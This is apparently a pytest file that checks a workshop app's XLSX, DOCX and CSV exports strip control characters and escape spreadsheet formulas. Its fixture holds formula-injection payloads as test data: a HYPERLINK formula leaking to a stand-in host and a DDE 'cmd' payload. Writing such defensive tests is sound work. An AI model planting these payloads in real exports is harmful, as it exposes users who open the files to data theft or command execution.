"""Each export defends itself against text that bypassed the rules at the edge (older data, another path):
characters XML cannot hold are removed first, then formulas are escaped; XLSX writes every user string as text."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from zipfile import ZipFile

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from app.db import Database
from app.exports.csv_export import render_csv
from app.exports.docx_export import render_docx
from app.exports.xlsx_export import render_xlsx
from app.models import Answer, Participant
from app.services import report as reports
from app.services import workshops
from tests.report_workshop import build_report_workshop

# Stored as typed before the rules at the edge existed (SQLite accepted them).
LEGACY = ['\x01=HYPERLINK("http://evil.example/?leak","Klik hier")', "\x00=2+2", "kleur\x1b[31mrood", "\x1f+1\ufffe"]


@pytest.fixture
async def legacy_report(sqlite_url: str) -> AsyncIterator:
    database = Database(sqlite_url)
    async with database.writer() as db:
        w = await build_report_workshop(db)
        step = (await workshops.list_steps(db, workshop_id=w.id))[0]
        notes = (await db.scalars(select(Answer).where(Answer.step_id == step.id).order_by(Answer.id))).all()
        for note, text in zip(notes[5:], LEGACY, strict=False):
            note.text = text
        first = (await db.scalars(select(Participant).order_by(Participant.id.desc()).limit(2))).all()
        first[1].display_name = "\x01=cmd|' /C calc'!A0"
        w.show_names = True
        w.title = "Titel\x1b met \x00stuurtekens"
        w.summary = "\x01@SUM(1)"
        await db.commit()
        yield await reports.build_report(db, workshop=w)
    await database.dispose()


async def test_xlsx_has_no_formula_and_no_unquoted_formula_text(legacy_report):
    data = render_xlsx(legacy_report)
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value
    assert '\'=HYPERLINK("http://evil.example/?leak","Klik hier")' in texts
    assert "'=2+2" in texts and "kleur[31mrood" in texts and "'+1" in texts
    assert "'=cmd|' /C calc'!A0" in texts and "'@SUM(1)" in texts
    with ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)


async def test_docx_opens_and_holds_the_text(legacy_report):
    doc = Document(io.BytesIO(render_docx(legacy_report)))
    body = "\n".join(
        [p.text for p in doc.paragraphs] + [c.text for t in doc.tables for row in t.rows for c in row.cells]
    )
    assert "kleur[31mrood" in body and "=2+2" in body and "Titel met stuurtekens" in body
    assert "\x1b" not in body and "\x00" not in body


async def test_csv_quotes_after_stripping(legacy_report):
    rows = list(csv.reader(io.StringIO(render_csv(legacy_report))))
    cells = [c for row in rows for c in row]
    assert '\'=HYPERLINK("http://evil.example/?leak","Klik hier")' in cells and "'=2+2" in cells
    assert not any(c.startswith(("=", "+", "@", "\x00", "\x01")) for c in cells)
